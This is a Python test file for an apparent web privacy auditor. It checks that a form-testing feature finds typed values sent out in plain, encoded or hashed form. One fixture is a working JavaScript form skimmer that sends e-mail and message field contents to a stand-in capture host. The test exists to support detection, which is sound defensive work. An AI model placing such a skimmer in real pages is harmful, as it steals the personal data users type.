"""The opt-in form test: made-up data are typed, nothing is submitted, and what leaves is found in every notation."""

import base64
import hashlib
from pathlib import Path

import pytest

from auditor.collect.collectors.form_test import FormTesting, needles
from auditor.collect.outgoing import Piece
from auditor.demo.web import content
from auditor.model.capture import Failure, Visit
from auditor.model.technique import FormTest, TypedField
from tests.collect.rig import Rig

FORM = """<h1>Contact</h1><form action="/submitted" method="post">
<input type="search" name="q"><input type="hidden" name="token"><input name="mail" placeholder="E-mail">
<input type="password" name="pass"><textarea name="message"></textarea><button>Send</button></form>"""
CAPTURE = """
addEventListener("change", async (event) => {
  const value = event.target.value, bytes = new TextEncoder().encode(value.toLowerCase());
  const digest = new Uint8Array(await crypto.subtle.digest("SHA-256", bytes));
  const hash = [...digest].map((b) => b.toString(16).padStart(2, "0")).join("");
  const to = "https://in.capture.example/";
  if (event.target.name === "mail") {
    navigator.sendBeacon(to + "hashed", JSON.stringify({em: hash}));
    navigator.sendBeacon(to + "packed", btoa(JSON.stringify({value})));
  } else if (event.target.name === "message") new Image().src = to + "plain?t=" + encodeURIComponent(value);
}, true);
"""


def form_test_of(visit: Visit) -> FormTest:
    assert isinstance(visit.form_test, FormTest), visit.form_test
    return visit.form_test


@pytest.mark.browser
async def test_what_is_typed_and_where_it_goes(rig: Rig, folder: Path) -> None:
    rig.serve(
        {
            "www.form.example": {
                "/": content(FORM + '<script src="https://cdn.capture.example/c.js"></script>'),
                "/submitted": content("thanks"),
            },
            "cdn.capture.example": {"/c.js": content(CAPTURE, "js")},
            "in.capture.example": {"/hashed": content(""), "/packed": content(""), "/plain": content("")},
        }
    )
    visit = await rig.visit("https://www.form.example/", folder, form_test=True)
    test = form_test_of(visit)
    assert [(field.kind, field.name) for field in test.fields] == [
        ("email", "mail"),
        ("password", "pass"),
        ("text", "message"),
    ]
    assert isinstance(visit.requests, tuple)
    urls = {request.id: request.url.partition("?")[0].rpartition("/")[2] for request in visit.requests}
    assert {(urls[one.request], one.kind, one.form, one.where) for one in test.sent} == {
        ("hashed", "email", "sha256", "body"),
        ("packed", "email", "base64", "body"),
        ("plain", "text", "plain", "url"),
    }
    assert "submitted" not in urls.values()


@pytest.mark.browser
async def test_it_is_opt_in_and_says_why_nothing_was_typed(rig: Rig, folder: Path) -> None:
    rig.serve({"www.plain.example": {"/": content(FORM)}, "www.bare.example": {"/": content("<h1>x</h1>")}})
    visit = await rig.visit("https://www.plain.example/", folder)
    assert isinstance(visit.form_test, Failure)
    assert "--form-test" in visit.form_test.reason
    visit = await rig.visit("https://www.bare.example/", folder, form_test=True)
    assert isinstance(visit.form_test, Failure)
    assert "no field" in visit.form_test.reason


class Still:
    """A stage without a browser, for what is typed alone."""


@pytest.mark.parametrize("how", ["plain", "url-encoded", "base64", "hex", "md5", "sha1", "sha256", "sha256 (base64)"])
def test_every_notation_of_a_typed_address_is_found(how: str) -> None:
    test = FormTesting(Still())  # type: ignore[arg-type]
    test._fields = [TypedField(kind="email", name="mail", page=0, at=1.0)]
    value = test.values["email"]
    sent = {
        "plain": value.upper(),
        "url-encoded": value.replace("@", "%40"),
        "base64": base64.urlsafe_b64encode(f'{{"a":"{value}"}}'.encode()).decode(),
        "hex": value.encode().hex().upper(),
        "sha256 (base64)": base64.b64encode(hashlib.sha256(value.encode()).digest()).decode(),
    }
    text = sent.get(how) or hashlib.new(how, value.encode()).hexdigest()
    assert how in [form for _, form, _ in test._seen(Piece(where="body", text=f"x={text}"))]


def test_masked_text_is_not_found() -> None:
    test = FormTesting(Still())  # type: ignore[arg-type]
    test._fields = [TypedField(kind="email", name="mail", page=0, at=1.0)]
    assert list(test._seen(Piece(where="body", text="x=" + "*" * len(test.values["email"])))) == []
    assert all(text for _, text in needles("a@b.example"))
